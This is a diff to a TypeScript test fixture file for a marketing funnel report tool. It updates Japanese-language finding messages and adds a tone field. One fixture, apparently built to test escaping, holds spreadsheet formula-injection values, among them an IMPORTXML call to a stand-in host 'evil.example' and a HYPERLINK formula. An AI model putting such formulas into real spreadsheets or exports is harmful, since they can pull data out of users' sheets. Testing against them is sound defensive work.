@@ -168,8 +168,8 @@ export function fullSummary(assumptions: { grossMargin: number; expectedPurchase
     velocity: { leadToMqlDays: 6, mqlToSqlDays: 12.5, sqlToOpportunityDays: 9, opportunityToWonDays: null, leadToWonDays: 41 },
     email: [email('4月メルマガ', 5000, 1500, 150), email('ウェビナー案内', 2000, null, 40), email('テスト配信', 0, 0, 0)],
     findings: [
-      { code: 'weakest_step', message: 'いちばん落ち込みが大きいのは 商談 → 受注 です（商談48件のうち受注11件、22.9%）。' },
-      { code: 'channel_outlier', message: '展示会 の商談化率は 25.0% で、全体の 20.0% を大きく上回っています（リード80件）。' },
+      { code: 'target_gap', tone: 'bad', message: '受注金額は目標 ¥4,000,000に対して実績 ¥3,800,000（発生日ベース、達成率 95.0%）で、¥200,000足りません。' },
+      { code: 'rate_difference', tone: 'good', message: '「展示会」の商談化率は 25.0% で、ほかのチャネルの 17.5% より高く、偶然では説明できない差です。' },
     ],
     sources: [
       { tab: '広告', kind: 'ads', rowsRead: 90, rowsSkipped: 2 },
@@ -241,7 +241,7 @@ export function hostileSummary(): FunnelSummary {
     ),
     scoreBands: [band('=1+1', 10, 5, 1), band('-20', 20, 4, 0)],
     email: HOSTILE_NAMES.slice(0, 4).map((name, index) => email(name, 1000 * (index + 1), 100 * (index + 1), 10 * (index + 1))),
-    findings: [{ code: 'channel_outlier', message: '=HYPERLINK("http://x","y") の商談化率が全体と大きく違います。' }],
+    findings: [{ code: 'rate_difference', tone: 'bad', message: '=HYPERLINK("http://x","y") の商談化率が全体と大きく違います。' }],
     sources: [{ tab: '=IMPORTXML("http://evil.example","//a")', kind: 'ads', rowsRead: 3, rowsSkipped: 1 }],
   };
 }
